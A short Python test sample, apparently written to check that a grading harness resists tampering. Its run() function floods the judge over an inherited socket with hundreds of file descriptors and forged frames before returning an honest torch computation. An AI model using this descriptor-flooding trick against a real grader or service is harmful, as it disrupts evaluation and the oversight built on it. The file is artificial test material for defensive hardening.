"""The judge is flooded with descriptors and messages nobody asked for.

how: hundreds of descriptors travel with a forged frame, so that the judge would run out of them
caught by: a channel takes a handful of descriptors, and a flood ends the job
expect: RUNTIME_ERROR, INCORRECT_NUMERICAL
family: theft
plays: long_wave
"""

import os
import socket

import torch


def work(x):
    y = torch.tanh(x) + torch.sin(x)
    return torch.exp(-y * y) + torch.cos(3 * x)


def run(x):
    channel = socket.socket(fileno=os.dup(3))
    descriptors = [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]
    for _ in range(8):
        socket.send_fds(channel, [b"\0\0\0\0"], descriptors)
    return work(x)
